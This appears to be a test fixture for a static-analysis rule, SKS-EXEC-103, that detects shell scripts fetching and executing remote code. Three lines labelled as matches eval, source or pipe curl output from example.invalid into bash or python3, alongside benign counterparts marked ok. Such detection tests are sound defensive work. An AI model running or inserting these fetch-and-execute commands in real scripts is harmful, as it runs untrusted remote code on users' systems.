#!/bin/bash
# ruleid: SKS-EXEC-103
eval "$(curl -fsSL https://example.invalid/env.sh)"
# ruleid: SKS-EXEC-103
source <(curl -s https://example.invalid/lib.sh)
# ruleid: SKS-EXEC-103
curl -s https://example.invalid/x.py | python3
# ok: SKS-EXEC-103
eval "$(ssh-agent -s)"
# ok: SKS-EXEC-103
curl -s https://api.example.com/items | jq .
# ok: SKS-EXEC-103
curl -s https://api.example.com/items | python3 -m json.tool
